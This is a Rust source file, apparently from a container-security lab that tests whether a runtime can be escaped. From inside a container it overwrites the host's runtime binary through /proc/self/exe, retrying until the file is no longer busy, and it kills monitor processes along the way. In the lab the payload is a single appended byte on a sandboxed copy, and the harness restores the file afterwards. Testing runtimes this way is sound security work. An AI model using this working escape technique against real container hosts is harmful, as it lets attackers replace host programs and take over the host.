//! A program of the host that is executed in a container, overwritten from inside: whoever
//! starts it next on the host starts what the attacker has written.
//!
//! The victim is a copy of `lab` in the sandbox; a byte is added at its end. The attacker
//! has to wait until nobody executes the file any more, so who runs it is killed meanwhile.

use std::fs::{self, File};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use nix::sys::prctl;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use process::{Result, Step};

use super::attacker::{number, tell_host};
use super::cell::Finding;
use super::conversation::Conversation;
use super::places::LAB;
use super::target::Target;

/// The program that is attacked.
pub const RUNTIME: &str = "/runtime";

/// The way to the program of whoever looks: until exec, a container's process is ours.
pub const OURSELVES: &str = "/proc/self/exe";

/// How long the attacker waits for the file to be free.
const PATIENCE: Duration = Duration::from_secs(2);

/// Puts the program there.
pub fn install() -> Result<()> {
    if !Path::new(RUNTIME).exists() {
        fs::copy(LAB, RUNTIME).step(|| format!("copy {LAB} to {RUNTIME}"))?;
    }
    Ok(())
}

/// Starts the program as `command`, by which [`overwrite`] comes to run in a container, and
/// looks what has become of it.
pub fn attack(target: &Target<'_>, command: Command) -> Result<Finding> {
    let mut attacker = Conversation::begin(target, command)?;
    // It says so when it has the file open.
    if attacker.hear()?.is_some() {
        attacker.runtime.kill().step(|| "kill the runtime")?;
        kill_monitors()?;
    }
    let said = attacker.end(target)?;
    let (length, whole) = (length(RUNTIME)?, length(LAB)?);
    if length != whole {
        let file = File::options().write(true).open(RUNTIME);
        file.and_then(|file| file.set_len(whole)).step(|| format!("restore {RUNTIME}"))?;
    }
    Ok(said.judged(length != whole, "the runtime's program has been changed"))
}

/// From chapter 11 on, the runtime is another process of that program than the one that was
/// started.
fn kill_monitors() -> Result<()> {
    let file = |path: &Path| fs::metadata(path).ok().map(|file| (file.dev(), file.ino()));
    let program = file(Path::new(RUNTIME));
    for entry in fs::read_dir("/proc").step(|| "list /proc")?.flatten() {
        let is_called_so =
            fs::read(entry.path().join("comm")).is_ok_and(|comm| comm == b"lab:monitor\n");
        let is_one = is_called_so && file(&entry.path().join("exe")) == program;
        let pid = entry.file_name().to_str().and_then(|name| name.parse().ok());
        if let Some(pid) = pid.filter(|_| is_one) {
            kill(Pid::from_raw(pid), Signal::SIGKILL).step(|| "kill the monitor")?;
        }
    }
    Ok(())
}

/// The attacker's side, which has to be started by way of [`OURSELVES`], and then once more:
/// with the same orders, and one word.
pub fn overwrite(orders: &[&str], words: &[String]) -> Result<String> {
    if words.is_empty() { become_another(orders) } else { write(number(words)?) }
}

/// As the runtime's program: keeps a way to it, and executes another.
fn become_another(orders: &[&str]) -> Result<String> {
    // Otherwise we would end with the runtime.
    prctl::set_pdeathsig(None).step(|| "give up the parent-death signal")?;
    let file = File::open(OURSELVES).step(|| format!("open {OURSELVES}"))?;
    fcntl(&file, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "keep it open over exec")?;
    let fd = file.as_raw_fd().to_string();
    let error = Command::new(LAB).args(["attack", "--inside"]).args(orders).arg(fd).exec();
    Err(error).step(|| format!("execute {LAB}"))
}

fn write(fd: usize) -> Result<String> {
    let path = format!("/proc/self/fd/{fd}");
    tell_host("")?;
    let start = Instant::now();
    let mut file = loop {
        match File::options().append(true).open(&path) {
            Err(error)
                if error.raw_os_error() == Some(Errno::ETXTBSY as i32)
                    && start.elapsed() < PATIENCE =>
            {
                std::thread::sleep(Duration::from_millis(1));
            }
            file => break file.step(|| "open the runtime's program for writing")?,
        }
    };
    file.write_all(b"!").step(|| "write to the runtime's program")?;
    Ok("overwritten".to_owned())
}

fn length(path: &str) -> Result<u64> {
    let metadata = fs::metadata(path).step(|| format!("look at {path}"))?;
    Ok(metadata.len())
}
